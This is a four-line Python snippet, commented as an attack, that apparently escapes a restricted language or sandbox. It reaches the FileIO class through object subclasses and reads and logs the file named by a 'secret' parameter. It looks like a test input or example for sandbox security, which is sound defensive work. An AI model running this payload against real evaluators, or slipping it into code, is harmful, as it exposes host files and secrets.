# attack: language | goes from the language to a file of the machine
kinds = [].__class__.__mro__[1].__subclasses__()
reader = [kind for kind in kinds if kind.__name__ == "FileIO"][0]
log(reader(params["secret"]).read())
